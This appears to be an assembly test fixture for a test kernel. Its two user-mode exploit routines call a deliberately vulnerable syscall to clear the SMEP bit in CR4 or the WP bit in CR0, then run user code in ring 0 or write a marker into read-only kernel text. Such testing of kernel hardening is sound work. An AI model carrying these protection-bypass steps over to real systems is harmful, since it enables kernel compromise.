/*
 * attack=smep / attack=wp: kernel-text gadgets, the read-only kernel text target,
 * and the two ring-3 exploits.  See attack.c.
 */
#include "testkernel/kernel.h"

/* The gadgets (gadget_write_cr4, gadget_write_cr0, gadget_write_mem) are in lib/gadgets.S. */

/* ---- A page of kernel text of its own (mapped present, read-only, executable). */
    .section .text.attack_target, "ax"
    .balign 4096
    .globl attack_text_target
attack_text_target:
    .quad 0x0ddc0ffee0ddf00d
    .balign 4096

/* ---- Ring-3 exploits (position independent, in .utext).
 * RDI = the "leaked" kernel information (struct attack_info in attack.c):
 *   0 cr_gadget   8 cr_value   16 cr_clear_bit   24 write_target
 *   32 marker_addr   40 marker_value
 * Step 1: sys_vuln_call(cr_gadget, cr_value & ~cr_clear_bit)  -> mov %rdi,%crN; ret
 * Step 2: sys_vuln_call(target, marker_addr, marker_value)     -> *marker_addr = marker_value
 * then exit(0).  If step 1 faults the kernel kills the process. */
    .section .utext, "ax"

    .globl user_exploit_smep
user_exploit_smep:
    mov %rdi, %r12
    mov 8(%r12), %rsi
    mov 16(%r12), %rax
    not %rax
    and %rax, %rsi                  /* CR4 & ~SMEP */
    xor %edx, %edx
    mov 0(%r12), %rdi               /* gadget_write_cr4 */
    mov $SYS_VULN_CALL, %eax
    syscall
    lea user_smep_payload(%rip), %rdi /* our own code, in a user page */
    mov 32(%r12), %rsi
    mov 40(%r12), %rdx
    mov $SYS_VULN_CALL, %eax
    syscall
    xor %edi, %edi
    mov $SYS_EXIT, %eax
    syscall
    ud2

/* Runs in ring 0 if the kernel can execute user pages (SMEP off). */
user_smep_payload:
    mov %rsi, (%rdi)                /* kernel-visible marker */
    ret

    .globl user_exploit_wp
user_exploit_wp:
    mov %rdi, %r12
    mov 8(%r12), %rsi
    mov 16(%r12), %rax
    not %rax
    and %rax, %rsi                  /* CR0 & ~WP */
    xor %edx, %edx
    mov 0(%r12), %rdi               /* gadget_write_cr0 */
    mov $SYS_VULN_CALL, %eax
    syscall
    mov 24(%r12), %rdi              /* gadget_write_mem */
    mov 32(%r12), %rsi
    mov 40(%r12), %rdx
    mov $SYS_VULN_CALL, %eax
    syscall
    xor %edi, %edi
    mov $SYS_EXIT, %eax
    syscall
    ud2
